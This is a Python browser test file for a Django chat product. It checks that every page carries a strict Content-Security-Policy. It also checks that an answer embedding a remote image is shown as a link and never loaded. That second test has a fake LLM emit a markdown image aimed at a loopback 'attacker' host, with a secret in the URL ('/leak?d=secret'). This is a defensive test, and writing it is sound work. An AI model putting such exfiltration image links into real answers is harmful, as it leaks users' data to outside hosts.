"""The Content-Security-Policy in a real browser: every page of the product, served as in
production (DEBUG off, collected static files), carries the header and raises no violation in
Chromium; an answer that echoes a remote image shows a link and never makes the request.

Violations are gathered from the ``securitypolicyviolation`` event (an init script in every page
and frame) and from Chromium's "Refused to ..." console messages."""

from __future__ import annotations

import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from playwright.sync_api import expect

from chat.models import Citation, Conversation, Message, MessageStatus
from conftest import BIN, ROOT, running_daphne, subprocess_env
from providers.fakes import OpenAIFake, Script
from usage.models import UsageRecord
from web.tests.conftest import Server, logged_in_context
from web.tests.factories import make_chunk, make_document, make_kb

pytestmark = [pytest.mark.browser, pytest.mark.slow]

POLICY_PARTS = [
    "default-src 'self'",
    "img-src 'self' data:",
    "object-src 'none'",
    "base-uri 'none'",
    "frame-ancestors 'none'",
    "script-src 'self'",
    "style-src 'self'",
]

DOT = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
COLLECT_VIOLATIONS = """
document.addEventListener("securitypolicyviolation", (e) => {
  window.__cspViolation([e.violatedDirective, e.blockedURI, e.sourceFile, e.lineNumber].join(" "));
});
"""


@pytest.fixture(scope="session")
def production_data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A DATA_DIR whose staticfiles/ holds the collected static files (DEBUG off serves only
    those, as in production). Collected once per run."""
    data_dir = tmp_path_factory.mktemp("csp-data")
    env = subprocess_env(DATA_DIR=str(data_dir), DEBUG="false", SECRET_KEY="x" * 50)
    env["ALLOWED_HOSTS"] = "127.0.0.1"
    subprocess.run(
        [str(BIN / "python"), "manage.py", "collectstatic", "--noinput", "-v", "0"],
        cwd=ROOT,
        env=env,
        check=True,
        timeout=240,
    )
    return data_dir


@pytest.fixture
def production_server(
    transactional_db: None,
    production_data_dir: Path,
    slow_llm: OpenAIFake,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Server]:
    """daphne as in production: DEBUG off (error pages are the real ones), static files from
    the collected folder; the scripted fake as the "openai" provider."""
    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
    env = subprocess_env(
        REDIS_URL="",
        BACKGROUND_TASKS="thread",
        OPENAI_BASE_URL=f"{slow_llm.url}/v1",
        OPENAI_MODEL=slow_llm.models[0],
        DEFAULT_PROVIDER="offline",
        LOG_LEVEL="warning",
        DEBUG="false",
        SECRET_KEY=settings.SECRET_KEY,  # the test's: it signs the session cookie handed over
        ALLOWED_HOSTS="127.0.0.1",
        SECURE_COOKIES="false",
        DATA_DIR=str(production_data_dir),
    )
    log_path = tmp_path / "daphne.log"
    with running_daphne(env, log_path) as port:
        yield Server(f"http://127.0.0.1:{port}", slow_llm, log_path)


class Watch:
    """CSP violations and document responses of one browser context."""

    def __init__(self, context: Any) -> None:
        self.violations: list[str] = []
        self.documents: list[tuple[str, int, str | None]] = []
        context.expose_function("__cspViolation", self.on_violation)
        context.add_init_script(COLLECT_VIOLATIONS)
        context.on("page", self.watch_page)

    def on_violation(self, text: str) -> None:
        self.violations.append(text)

    def watch_page(self, page: Any) -> None:
        page.on("console", self.on_console)
        page.on("response", self.on_response)

    def on_console(self, message: Any) -> None:
        if "Content Security Policy" in message.text or message.text.startswith("Refused to"):
            self.violations.append(f"console: {message.text}")

    def on_response(self, response: Any) -> None:
        if response.request.resource_type == "document":
            policy = response.headers.get("content-security-policy")
            self.documents.append((response.url, response.status, policy))

    def assert_clean(self) -> None:
        assert not self.violations, "\n".join(self.violations)
        assert self.documents, "no page was loaded"
        for url, status, policy in self.documents:
            assert policy is not None, f"{url} ({status}) has no Content-Security-Policy"
            for part in POLICY_PARTS:
                assert part in policy, f"{url}: {part!r} missing from {policy!r}"
            assert "unsafe-inline" not in policy and "unsafe-eval" not in policy


@pytest.fixture
def leak_server() -> Iterator[tuple[str, list[str]]]:
    """A loopback HTTP server that records every request path: the "attacker's" image host."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.end_headers()
            self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


def test_every_page_carries_the_policy_and_raises_no_violation(
    browser, production_server, client, django_user_model, password
):
    server = production_server
    staff = django_user_model.objects.create_superuser("root", "root@example.com", password)
    kb = make_kb(staff)
    document = make_document(kb, "leave-policy")
    make_chunk(document, "Employees take twenty-eight days of paid leave a year.")
    conversation = Conversation.objects.create(owner=staff, title="Leave")
    Message.objects.create(conversation=conversation, role="user", content="How long?")
    answer = Message.objects.create(
        conversation=conversation,
        role="assistant",
        status="complete",
        content="**Twenty-eight** days [1].\n\n```python\ndef leave():\n    return 28\n```",
    )
    Citation.objects.create(
        message=answer,
        number=1,
        document_title="leave-policy",
        file_name="leave-policy.pdf",
        page=1,
        quote="28 days",
    )
    UsageRecord.objects.create(
        user=staff,
        provider="offline",
        model="offline",
        status=MessageStatus.COMPLETE,
        prompt_tokens=100,
        completion_tokens=20,
        total_ms=900,
        created_at=timezone.now(),
    )

    anonymous = browser.new_context()
    watch_anonymous = Watch(anonymous)
    page = anonymous.new_page()
    for path in ("/accounts/login/", "/accounts/signup/", "/accounts/password/reset/"):
        page.goto(server.url + path)
        expect(page.locator("main form")).to_be_visible()
    anonymous.close()
    watch_anonymous.assert_clean()

    context = logged_in_context(browser, server, client, staff)
    watch = Watch(context)
    page = context.new_page()

    page.goto(server.url + f"/c/{conversation.pk}/")
    expect(page.locator(".msg.assistant .msg-body strong")).to_have_text("Twenty-eight")
    expect(page.locator(".msg.assistant pre code .hljs-keyword").first).to_have_text("def")
    page.locator(".msg.assistant .cite-chip").first.click()
    expect(page.locator("#citation-dialog")).to_contain_text("28 days")
    page.keyboard.press("Escape")
    expect(page.locator("#chat-settings")).to_be_visible()

    page.goto(server.url + "/kb/")
    expect(page.locator("body")).to_contain_text(kb.name)
    page.select_option("#language-select", "ru")  # applies on change, from a script file
    expect(page.locator("html")).to_have_attribute("lang", "ru")
    page.select_option("#language-select", "en")
    expect(page.locator("html")).to_have_attribute("lang", "en")
    page.goto(server.url + f"/kb/{kb.pk}/")
    expect(page.locator("#doc-rows tr[data-id]")).to_have_count(1)
    page.select_option("#search-mode", "keyword")
    page.fill("#search-query", "paid leave")
    page.locator("#search-form button[type=submit]").click()
    expect(page.locator("#search-notes")).not_to_have_text("…", timeout=60_000)
    page.goto(server.url + f"/documents/{document.pk}/")
    expect(page.locator(".chunk").first).to_contain_text("twenty-eight days")

    page.goto(server.url + "/account/tokens/")
    expect(page.locator("main")).to_be_visible()
    page.goto(server.url + "/accounts/email/")
    expect(page.locator("main")).to_be_visible()

    opts = django_user_model._meta
    admin_pages = [
        reverse("admin:index"),
        reverse("admin:chat_usage_dashboard"),
        reverse("admin:chat_usage_no_context"),
        reverse("admin:usage_usagerecord_changelist"),
        reverse("admin_providers"),
        reverse("admin:documents_knowledgebase_changelist"),
        reverse("admin:documents_knowledgebase_change", args=[kb.pk]),
        reverse("admin:documents_document_change", args=[document.pk]),
        reverse(f"admin:{opts.app_label}_{opts.model_name}_change", args=[staff.pk]),
        reverse("admin:chat_prompttemplate_add"),
    ]
    for path in admin_pages:
        response = page.goto(server.url + path)
        assert response is not None and response.status == 200, path
        expect(page.locator("#content")).to_be_visible()
    expect(page.locator("body")).to_be_visible()

    page.goto(server.url + "/api/v1/docs")
    expect(page.locator(".swagger-ui .info").first).to_be_visible(timeout=30_000)

    response = page.goto(server.url + "/no-such-page/")
    assert response is not None and response.status == 404
    context.close()
    watch.assert_clean()
    assert any(status == 404 for _, status, _ in watch.documents)


def test_an_answer_never_loads_a_remote_image_and_shows_it_as_a_link(
    browser, production_server, leak_server, client, alice
):
    server = production_server
    leak_url, hits = leak_server
    image = f"{leak_url}/leak?d=secret"
    server.fake.script = Script(
        tokens=["Here is the chart: ", f"![x]({image})", f" and a local one ![dot]({DOT})."]
    )
    context = logged_in_context(browser, server, client, alice)
    watch = Watch(context)
    page = context.new_page()
    page.goto(server.url + "/")
    page.select_option("#provider-select", "openai")
    page.fill("#composer-input", "Show me the chart")
    page.keyboard.press("Enter")
    answer = page.locator(".msg.assistant").last
    expect(answer).to_have_attribute("data-status", "complete", timeout=30_000)

    body = answer.locator(".msg-body")
    link = body.locator(f'a[href="{image}"]')
    expect(link).to_have_text("x")
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert body.locator("img[src^='http']").count() == 0
    assert body.locator("img[src^='data:']").count() == 1  # data: images stay images

    # The renderer on its own, into a detached element (images there load as well).
    page.evaluate(
        "(src) => { const d = document.createElement('div');"
        " window.RAGGEN.renderMarkdown('![y](' + src + ')<img src=\"' + src + '\">', d);"
        " window.__detached = d.innerHTML; }",
        f"{leak_url}/leak?d=detached",
    )
    detached = page.evaluate("window.__detached")
    assert "<img" not in detached
    assert detached.count(f'href="{leak_url}/leak?d=detached"') == 2

    page.reload()  # the saved answer, rendered again from the page's data
    expect(page.locator(".msg.assistant").last.locator(f'a[href="{image}"]')).to_have_text("x")
    context.close()
    assert hits == []
    watch.assert_clean()
